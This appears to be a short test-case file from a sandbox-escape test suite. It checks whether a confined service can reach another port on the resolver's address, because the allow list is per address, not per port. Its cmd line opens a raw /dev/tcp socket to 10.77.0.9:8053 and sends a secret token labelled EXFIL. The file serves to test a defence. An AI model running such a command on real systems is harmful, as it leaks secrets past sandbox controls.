# SPDX-License-Identifier: LGPL-2.1-or-later
class=network
what="another service on the resolver's host (10.77.0.9:8053): the allow list is per address, not per port"
cmd="exec 3<>/dev/tcp/10.77.0.9/8053 && echo 'EXFIL $(secret tok)' >&3 && head -n 1 <&3"
applies() { [ "$ESC_MODE" != open ]; }
happened() { listener_saw "$(secret tok)"; }
gap() { [ "$ESC_MODE" = ip ] && echo 'IPAddressAllow= opens every port of the resolver'"'"'s address (needs the proxy); resolver = false or mode "none" closes it'; }
